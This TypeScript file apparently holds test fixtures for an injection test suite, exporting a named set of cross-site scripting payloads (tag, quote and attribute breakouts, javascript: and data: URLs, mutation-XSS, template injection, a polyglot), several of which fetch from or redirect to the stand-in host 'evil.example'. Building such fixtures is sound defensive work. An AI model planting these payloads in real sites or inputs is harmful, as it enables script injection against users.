/** Where a script that got to run reports to; no page of the product ever asks it. */
export const EVIL = 'evil.example';
const RUN = `injected=1,alert(1),fetch("//${EVIL}")`;
const RUN_QUIETLY = `injected=1`;

/** Texts that leave what they stand in, each another way: elements, attributes, scripts, styles, addresses, markup that is parsed twice. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  'end of a script': `</script><script>${RUN}</script>`,
  'end of a comment': `--><!--><script>${RUN_QUIETLY}</script><!--"><svg onload=${RUN_QUIETLY}>`,
  'double quote': `"><img src=x onerror='${RUN_QUIETLY}'>`,
  'single quote': `'><img src=x onerror="${RUN_QUIETLY}">`,
  'attribute alone': `" autofocus onfocus="${RUN_QUIETLY}" x="`,
  'end of a title': `</title></textarea></style></noscript><script>${RUN}</script>`,
  'style sheet': `}</style><style>*{background:url(//${EVIL}/c)}</style>`,
  'end of a string': `\\'");${RUN_QUIETLY};//`,
  'line separator': `\u2028${RUN_QUIETLY}\u2029//`,
  'address of a script': `javascript:${RUN_QUIETLY}`,
  'address in disguise': `\u0001 jAvA\tsCrIpT:${RUN_QUIETLY}`,
  'page of data': `data:text/html,<script>${RUN_QUIETLY}</script>`,
  'foreign address': `//${EVIL}/x.js`,
  'frame of text': `<iframe srcdoc="<script>parent.injected=1</script>"></iframe>`,
  'base and refresh': `<base href=//${EVIL}/><meta http-equiv=refresh content="0;url=//${EVIL}/">`,
  'parsed twice': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN_QUIETLY}&gt;">`,
  'Markdown link': `[x](javascript:${RUN_QUIETLY}) ![x](//${EVIL}/p.png) <https://${EVIL}/"onclick=injected=1>`,
  template: `{{constructor.constructor("${RUN_QUIETLY}")()}}\${${RUN_QUIETLY}}`,
};

/** Leaves most of what a text stands in, and is short enough for most places; for the time the gate has. */
export const ONE_FOR_MANY = `</script><script>injected=1</script><!--"'><svg onload=injected=2>`;
